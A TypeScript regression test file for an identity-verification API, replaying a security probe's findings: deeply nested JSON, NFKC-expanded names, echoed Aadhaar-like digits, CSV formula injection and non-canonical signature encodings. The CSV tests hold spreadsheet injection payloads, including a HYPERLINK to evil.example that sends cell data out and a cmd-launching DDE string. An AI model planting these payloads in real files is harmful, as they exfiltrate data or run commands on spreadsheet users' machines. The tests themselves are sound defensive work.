// Regression tests for the outside security probe's findings (issue #37, item 7), each replaying the
// probe's request through the HTTP surface: deeply nested batch rows, spreadsheet formulas in every CSV
// Sangam writes, a CSV batch of only a header, names that Unicode normalisation makes long, identity
// digits echoed in name-match reasons, and consent receipts whose signature is not canonically encoded.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { createLocalJWKSet, jwtVerify } from 'jose';
import { runCommand } from '../src/admin/run.js';
import { readCell } from '../src/csv.js';
import { holdMany, post } from '../src/ledger/ledger.js';
import { eventually, PATHS, ref, startApp, VALID, type TestApp } from './harness.js';

const BATCH_ENV = { SANGAM_BATCH_POLL_MS: '50' };

const upload = (t: TestApp, type: string, text: string, query: string) =>
  t.call('POST', `/api/v1/batches?${query}`, { payload: text, headers: { 'content-type': type } });

type Session = { cookie: string; csrf: string };

/** A console user of the app's account, logged in. */
async function consoleSession(t: TestApp): Promise<Session> {
  assert.equal((await runCommand(t.store.db, ['users', 'create', '--email', 'probe@acme.test', '--password', 'correct horse', '--account', t.accountId])).code, 0);
  const r = await t.app.inject({ method: 'POST', url: '/console/api/login', payload: { email: 'probe@acme.test', password: 'correct horse' } });
  assert.equal(r.statusCode, 200, r.body);
  return { cookie: String(r.headers['set-cookie']).split(';')[0]!, csrf: JSON.parse(r.body).data.csrf_token };
}

const asUser = async (t: TestApp, s: Session, method: string, url: string, payload?: string, type?: string) => {
  const r = await t.app.inject({ method: method as 'GET', url, payload, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf, ...(type ? { 'content-type': type } : {}) } });
  let body: any; // eslint-disable-line @typescript-eslint/no-explicit-any -- tests read arbitrary JSON
  try {
    body = JSON.parse(r.body);
  } catch {
    body = undefined;
  }
  return { status: r.statusCode, text: r.body, body };
};

/** The cells of a CSV, header first. */
const cells = (text: string) => parse(text) as string[][];

/** `[[[…1…]]]` nested `depth` levels. */
const nested = (depth: number) => `${'['.repeat(depth)}1${']'.repeat(depth)}`;

describe('probe #37: deeply nested input', () => {
  let t: TestApp;
  before(async () => (t = await startApp(BATCH_ENV)));
  after(() => t.close());

  it('an NDJSON row nested 10,000 deep is a 422 naming the row and the field, for every operation', async () => {
    const rows = [
      JSON.stringify(VALID.names()),
      `{"reference_id":"${ref()}","consent":true,"name_1":"A B","name_2":"A B","deep":${nested(10_000)}}`,
    ].join('\n');
    const r = await upload(t, 'application/x-ndjson', rows, 'operation=name-match');
    assert.equal(r.status, 422, r.text);
    assert.deepEqual(r.body.data.errors.map((e: { row: number; field: string }) => [e.row, e.field]), [[2, 'deep']]);
    assert.match(r.body.data.errors[0].message, /row 2: deep nests deeper than 32 levels/);
    const aadhaar = `{"reference_id":"${ref()}","consent":true,"doclocker__client__id":"client-12345678","aadhaar_number":"234123412346","x":{"y":${nested(10_000)}}}`;
    const d = await upload(t, 'application/x-ndjson', aadhaar, 'operation=doclocker-download-aadhaar');
    assert.equal(d.status, 422, d.text);
    assert.deepEqual([d.body.data.errors[0].row, d.body.data.errors[0].field], [1, 'x']);
    const whole = await upload(t, 'application/x-ndjson', nested(10_000), 'operation=name-match');
    assert.equal(whole.status, 422, whole.text);
    assert.deepEqual([whole.body.data.errors[0].row, whole.body.data.errors[0].field], [1, 'body']);
    // Within the bound is the schema's business: a row with a nested extra field is read.
    const ok = await upload(t, 'application/x-ndjson', JSON.stringify({ ...VALID.names(), extra: JSON.parse(nested(20)) }), 'operation=name-match&validate_only=true');
    assert.equal(ok.status, 200, ok.text);
  });

  it('a doclocker-download-aadhaar body with a deeply nested field is refused in the envelope, never a 500', async () => {
    const body = `{"reference_id":"${ref()}","consent":true,"doclocker__client__id":"client-12345678","aadhaar_number":"234123412346","x":${nested(10_000)}}`;
    const r = await t.call('POST', PATHS.aadhaar, { payload: body, headers: { 'content-type': 'application/json' } });
    assert.ok(r.status === 400 || r.status === 422, r.text);
    assert.equal(r.body.ok, false);
    const items = `{"operation":"doclocker-download-aadhaar","items":[{"reference_id":"${ref()}","consent":true,"doclocker__client__id":"client-12345678","aadhaar_number":"234123412346","x":${nested(10_000)}}]}`;
    const b = await t.call('POST', '/api/v1/batches', { payload: items, headers: { 'content-type': 'application/json' } });
    assert.ok(b.status === 400 || b.status === 422, b.text);
  });
});

describe('probe #37: names', () => {
  let t: TestApp;
  before(async () => (t = await startApp()));
  after(() => t.close());

  it('a name that NFKC expands past 256 characters is a 422 naming the field, in every operation that reads a name', async () => {
    const long = '\uFDFA'.repeat(200); // 200 code points, 3,600 characters after NFKC
    const cases: Array<[string, Record<string, unknown>, string]> = [
      [PATHS.names, { ...VALID.names(), name_1: long }, 'name_1'],
      [PATHS.names, { ...VALID.names(), name_2: long }, 'name_2'],
      [PATHS.bank, { ...VALID.bank(), name: long }, 'name'],
      [PATHS.signature, { ...VALID.signature(), name: long }, 'name'],
    ];
    for (const [path, body, field] of cases) {
      const r = await t.call('POST', path, { body });
      assert.equal(r.status, 422, `${path} ${field}: ${r.text}`);
      assert.equal(r.body.data.Errorcode, 104);
      assert.deepEqual(r.body.data.errors.map((e: { field: string }) => e.field), [field]);
      assert.match(r.body.data.errors[0].message, /NFKC/);
    }
    // Within both bounds a compatibility character is read as its expansion.
    const fits = await t.call('POST', PATHS.names, { body: { ...VALID.names(), name_1: '\uFB01roz Khan', name_2: 'Firoz Khan' } });
    assert.equal(fits.status, 200, fits.text);
    assert.equal(fits.body.data.match, true);
  });

  it('a signature-match name the engine cannot read is a 422 naming `name`, never a 500', async () => {
    const r = await t.call('POST', PATHS.signature, { body: { ...VALID.signature(), name: '2341 2341 2346' } });
    assert.equal(r.status, 422, r.text);
    assert.deepEqual(r.body.data.errors.map((e: { field: string }) => e.field), ['name']);
  });

  it('digits in a name are counted in the reasons, never echoed (a spaced Aadhaar number)', async () => {
    const r = await t.call('POST', PATHS.names, { body: { ...VALID.names(), name_1: 'Priya 3865 0900 0065 Sharma', name_2: 'Priya Sharma' } });
    assert.equal(r.status, 200, r.text);
    const digits = r.body.data.reasons.find((x: { code: string }) => x.code === 'DIGITS_IGNORED');
    assert.deepEqual(digits, { code: 'DIGITS_IGNORED', detail: 'name_1: 3 groups of digits' });
    assert.doesNotMatch(r.text, /3865|0900|0065/);
    // Nothing left but a title and digits: the name is quoted without them.
    const bare = await t.call('POST', PATHS.names, { body: { ...VALID.names(), name_1: 'Mr 386509000065', name_2: 'Priya Sharma' } });
    assert.equal(bare.status, 200, bare.text);
    assert.ok(bare.body.data.reasons.some((x: { code: string }) => x.code === 'NO_NAME_LEFT'), bare.text);
    assert.doesNotMatch(bare.text, /386509000065/);
    const stored = await t.call('GET', `/api/v1/audit-logs/${bare.headers['x-request-id']}`);
    assert.doesNotMatch(stored.text, /386509000065/);
  });
});

describe('probe #37: batches read and written as CSV', () => {
  let t: TestApp;
  let me: Session;
  before(async () => {
    t = await startApp(BATCH_ENV);
    me = await consoleSession(t);
  });
  after(() => t.close());

  it('a CSV of only a header is a 422, not a batch of 0 rows, through the API and the console', async () => {
    const before = await t.store.db.selectFrom('batches').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    for (const text of ['reference_id,consent,name_1,name_2\n', 'reference_id,consent,name_1,name_2', 'reference_id,consent,name_1,name_2\r\n\r\n\n']) {
      const r = await upload(t, 'text/csv', text, 'operation=name-match');
      assert.equal(r.status, 422, r.text);
      assert.deepEqual([r.body.data.errors[0].row, r.body.data.errors[0].field], [1, 'body']);
      assert.match(r.body.data.errors[0].message, /header and no rows/);
      const v = await upload(t, 'text/csv', text, 'operation=name-match&validate_only=true');
      assert.equal(v.status, 422, v.text);
    }
    const c = await asUser(t, me, 'POST', '/console/api/batches?environment=sandbox&operation=name-match', 'reference_id,consent,name_1,name_2\n', 'text/csv');
    assert.equal(c.status, 422, c.text);
    // A CSV cell is text, never parsed as JSON: brackets 10,000 deep are a value the schema judges.
    const deep = await upload(t, 'text/csv', `reference_id,consent,name_1,name_2\n${ref()},true,${nested(10_000)},A B\n`, 'operation=name-match&validate_only=true');
    assert.equal(deep.status, 200, deep.text);
    assert.deepEqual(deep.body.data.errors.map((e: { row: number; field: string }) => [e.row, e.field]), [[1, 'name_1']]);
    const after = await t.store.db.selectFrom('batches').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    assert.equal(Number(after.n), Number(before.n), 'nothing created');
  });

  it("the console's upload refuses a deeply nested NDJSON row by row and field", async () => {
    const row = `{"reference_id":"${ref()}","consent":true,"name_1":"A B","name_2":"A B","deep":${nested(10_000)}}`;
    const c = await asUser(t, me, 'POST', '/console/api/batches?environment=sandbox&operation=name-match', row, 'application/x-ndjson');
    assert.equal(c.status, 422, c.text);
    assert.deepEqual([c.body.data.errors[0].row, c.body.data.errors[0].field], [1, 'deep']);
  });

  it("a batch's results CSV neutralises formulas from its rows (API and console), and numbers stay numbers", async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1)', "-2+3+cmd|' /C calc'!A0", '+1', '@SUM(A1)', '\t=1', '\r=1'];
    // Rows that fail their checks keep what was sent (an invalid reference_id is shown as given).
    const rows = [VALID.names(), ...formulas.map((f) => ({ ...VALID.names(), reference_id: f })), { ...VALID.names(), reference_id: '-12.50' }];
    const r = await t.call('POST', '/api/v1/batches', { body: { operation: 'name-match', items: rows } });
    assert.equal(r.status, 200, r.text);
    const id = r.body.data.id as string;
    await eventually(async () => (await t.call('GET', `/api/v1/batches/${id}`)).body.data.status === 'completed', 60_000);
    for (const text of [(await t.call('GET', `/api/v1/batches/${id}/results?format=csv`)).text, (await asUser(t, me, 'GET', `/console/api/batches/${id}/results?environment=sandbox&format=csv`)).text]) {
      const [header, ...body] = cells(text);
      assert.deepEqual(header, ['row', 'reference_id', 'status', 'http_status', 'message', 'errors', 'result']);
      const refs = body.map((c) => c[1]!);
      assert.deepEqual(refs.slice(1), [...formulas, '-12.50'].map((f) => `'${f}`));
      assert.deepEqual(refs.map(readCell), rows.map((x) => x.reference_id), 'readCell gives back what was sent');
      for (const line of body) for (const cell of line) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
      assert.deepEqual(body.map((c) => c[0]), rows.map((_, i) => String(i + 1)), 'row numbers are written as numbers');
      assert.equal(body[0]![3], '200');
    }
  });
});

describe('probe #37: audit export and wallet statement CSV', () => {
  let t: TestApp;
  let me: Session;
  before(async () => {
    t = await startApp();
    me = await consoleSession(t);
  });
  after(() => t.close());

  // `sangam audit export --format csv` writes the same stream (audit/export.ts).
  it('the audit export CSV neutralises a formula-looking reference_id, and its numbers stay numbers', async () => {
    const reference = '-2:3+cmd';
    const call = await t.call('POST', PATHS.signature, { body: { ...VALID.signature(), reference_id: '-2:3' } });
    assert.equal(call.status, 200, call.text);
    const bad = await t.call('POST', PATHS.signature, { body: { ...VALID.signature(), reference_id: reference } });
    assert.equal(bad.status, 422, bad.text);
    for (const text of [
      (await t.call('GET', '/api/v1/audit-logs/export', { query: { format: 'csv' } })).text,
      (await asUser(t, me, 'GET', '/console/api/logs/export?environment=sandbox&format=csv')).text,
    ]) {
      const [header, ...body] = cells(text);
      const col = (name: string) => header!.indexOf(name);
      const row = body.find((c) => c[col('request_id')] === call.headers['x-request-id']);
      assert.ok(row, text);
      assert.equal(row[col('reference_id')], "'-2:3");
      assert.equal(readCell(row[col('reference_id')]!), '-2:3');
      assert.match(row[col('latency_ms')]!, /^[0-9.]+$/);
      assert.equal(row[col('http_status')], '200');
      assert.equal(row[col('ok')], 'true');
      for (const line of body) for (const cell of line) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
    }
  });

  it('the wallet statement CSV: a debit stays a negative number, a formula-looking reference gets the quote', async () => {
    await runCommand(t.store.db, ['wallet', 'topup', '--account', t.accountId, '--amount', '100']);
    const txn = 'txn_probe_37_formula';
    await t.store.db.transaction().execute(async (trx) => {
      await trx.insertInto('transactions').values({ id: txn, account_id: t.accountId, environment: 'live', operation: 'signature-match', reference_id: '-1:2', status: 'success', result: '{}' }).execute();
      await holdMany(trx, [{ txnId: txn, accountId: t.accountId, principalPaise: 0, feePaise: 1250, commissionPaise: 0 }]);
      await post(trx, txn);
    });
    const csv = await asUser(t, me, 'GET', `/console/api/statement/export?reference=${txn}`);
    assert.equal(csv.status, 200, csv.text);
    const [header, row, ...rest] = cells(csv.text);
    assert.equal(rest.length, 0);
    const col = (name: string) => header!.indexOf(name);
    assert.equal(row![col('reference_id')], "'-1:2");
    assert.equal(row![col('amount')], '-12.5', 'an amount is a number: no quote');
    assert.equal(row![col('balance_after')], '87.5');
    assert.match(csv.text, /,-12\.5,87\.5,/);
  });
});

describe('probe #37: consent receipts', () => {
  let t: TestApp;
  before(async () => (t = await startApp()));
  after(() => t.close());

  it('a receipt whose signature differs only in the unused bits of its last character does not verify', async () => {
    const created = await t.call('POST', '/api/v1/consents', {
      body: {
        subject: { mobile: '9123456780' },
        purpose: { code: 'kyc-onboarding', text: 'To verify your bank account' },
        operations: ['mobile-to-bank-account'],
        notice: { version: '2026-11', language: 'en', text: 'We will check the bank account linked to your mobile number.' },
        channel: 'app',
      },
    });
    assert.equal(created.status, 200, created.text);
    const receipt = created.body.data.receipt as string;
    const [h, p, sig] = receipt.split('.') as [string, string, string];
    // 64 bytes are 86 characters: the last one carries 2 bits of the signature and 4 unused ones.
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const last = alphabet.indexOf(sig.at(-1)!);
    const tampered = `${h}.${p}.${sig.slice(0, -1)}${alphabet[last ^ 1]}`;
    assert.deepEqual(Buffer.from(tampered.split('.')[2]!, 'base64url'), Buffer.from(sig, 'base64url'), 'the same bytes under another text');
    const keys = await t.call('GET', '/api/v1/consents/public-key');
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'probe-')), 'keys.json');
    writeFileSync(file, keys.text);
    const good = await runCommand(t.store.db, ['consents', 'verify', receipt, '--public-key', file]);
    assert.equal(good.code, 0, JSON.stringify(good.output));
    for (const args of [['consents', 'verify', tampered, '--public-key', file], ['consents', 'verify', tampered]]) {
      const refused = await runCommand(t.store.db, args);
      assert.equal(refused.code, 1, JSON.stringify(refused.output));
      assert.match(String(refused.output.reason), /not canonical base64url/);
      assert.equal(refused.output.receipt_sha256, undefined);
    }
    // Padding, too, is not the canonical text.
    const padded = await runCommand(t.store.db, ['consents', 'verify', `${h}.${p}.${sig}==`, '--public-key', file]);
    assert.equal(padded.code, 1);
    // A stock JOSE library still verifies the receipt as issued.
    await jwtVerify(receipt, createLocalJWKSet(keys.body.data), { typ: 'consent-receipt+jwt' });
  });
});
